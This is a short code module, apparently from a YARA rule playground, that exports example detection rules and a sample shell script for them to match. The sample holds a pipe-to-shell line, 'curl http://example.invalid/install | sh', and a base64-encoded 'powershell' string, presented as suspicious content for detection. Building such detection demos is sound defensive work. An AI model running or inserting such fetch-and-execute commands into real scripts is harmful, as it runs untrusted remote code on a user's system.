/** What a visitor sees first: rules that match the sample beside them. */
export { default as exampleRules } from "./example.yar?raw";

export const exampleSample = `#!/bin/sh
# nothing to see here
curl http://example.invalid/install | sh
echo cG93ZXJzaGVsbA== | base64 -d
`;
